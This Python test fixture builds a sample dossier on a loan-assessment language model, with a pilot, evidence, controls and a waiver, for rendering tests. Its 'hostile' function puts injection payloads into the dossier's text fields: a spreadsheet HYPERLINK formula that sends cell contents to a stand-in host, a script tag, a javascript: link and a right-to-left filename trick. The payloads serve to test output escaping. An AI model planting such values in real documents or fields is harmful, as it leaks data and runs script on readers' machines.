"""A dossier with something of everything, for the tests of its documents; and the ground to render it on."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import yaml
from dossier_sample import ANA, PIA, TODAY, Desk, desk

from kg_service.applicability.evaluate import Evaluator
from kg_service.decisions.controls import ControlState
from kg_service.decisions.pilot import plan_hash
from kg_service.decisions.pilot_input import parse_plan
from kg_service.dossiers.commands import (
    AddEvidence,
    AddOption,
    AnswerCriterion,
    ChangeDetails,
    FixPilot,
    RecordPilot,
    SetControls,
    SetInput,
    StartPilot,
    Waive,
)
from kg_service.dossiers.guards import GapKind, assessor, gaps
from kg_service.dossiers.model import EvidenceKind, Met

ROOT = Path(__file__).resolve().parent.parent
HEAD = (42, "9f" * 32)


def raw(path: str) -> Any:
    """A file of the examples, all scalars as text."""
    return yaml.load((ROOT / path).read_text(encoding="utf-8"), Loader=yaml.BaseLoader)  # noqa: S506 - strings only


def full(evaluator: Evaluator, day: date = TODAY) -> Desk:
    """Decision 1 passed, controls in every state, evidence, a waiver, the tools of 1, 5 and 6, and a pilot that is over."""
    made = desk(evaluator, day - timedelta(days=70))
    description = "A hosted language model reads loan applications and writes an assessment with a score for the officer."
    made.do(ChangeDetails(owner="Ana, analyst", description=description))
    made.do(FixPilot(raw("examples/pilots/service-chat.yaml")["plan"]))
    made = made.on(day - timedelta(days=56))
    made.do(StartPilot("p1", made.ground.today))
    results = raw("examples/pilots/service-chat.yaml")["results"]
    first = date.fromisoformat("2026-09-28")
    shift = made.ground.today - first
    for one in results:
        one["on"] = (date.fromisoformat(one["on"]) + shift).isoformat()
    made = made.on(day)
    made.do(RecordPilot("p1", tuple(results)))
    made.do(SetInput("necessity", raw("examples/necessity/credit-assessment.yaml")["answers"]))
    made.do(SetInput("roi", raw("examples/roi/credit-assessment.yaml")))
    made.do(SetInput("pathways", raw("examples/pathways/credit-assessment.yaml")))
    made.do(AddEvidence(EvidenceKind.LINK, "Fairness report 2026", (4,), url="https://wiki.example/fairness-2026"))
    made.do(
        AddEvidence(
            EvidenceKind.FILE, "Minutes of the model committee", (3,), "ab" * 32, 20_000, "minutes.pdf", "application/pdf"
        )
    )
    made.do(SetControls(("fair-testing", "mod-independent-validation"), ControlState.TESTED, "Head of model risk", day, ("e1",)))
    made.do(SetControls(("dat-cross-border",), ControlState.FAILED, "Privacy office", day))
    made.do(SetControls(("tpr-exit", "dat-privacy-impact", "gov-training"), ControlState.PLANNED, "Programme office"))
    made.do(
        SetControls(
            ("gov-inventory", "gov-risk-tiering", "ops-logging"), ControlState.IN_PLACE, "Chief data officer", day, ("e2",)
        )
    )
    made.passed(1)
    made.do(AnswerCriterion(3, "monitored", Met.NOT_MET, "The dashboard is not built yet."))
    found = assessor(made.dossier, made.ground)(day)
    gap = next(one for one in gaps(made.dossier, 4, found, made.ground) if one.kind is GapKind.NO_CONTROL)
    made.do(Waive(4, "The notice is drafted and goes out in March.", day + timedelta(days=90), gap.norm.id), PIA)
    made.do(AddOption(6, "proprietary/vendor/public_cloud/retrieval", because="the team runs it in the pilot", chosen=True), ANA)
    return made


def hostile(evaluator: Evaluator) -> Desk:
    """A dossier whose every text tries to break out of its document."""
    made = full(evaluator)
    bad = '=HYPERLINK("http://x.example/?"&A1,"x")|<script>alert(1)</script> ](javascript:x) \u202egnp.exe'
    made.do(ChangeDetails(name="=1+1 " + bad.replace("\u202e", ""), description=bad.replace("\u202e", "")))
    made.dossier = replace(made.dossier, description=bad + "\x07 \ud800")
    return made


def fixed(made: Desk) -> str:
    return plan_hash(parse_plan(made.dossier.pilots["p1"].plan))
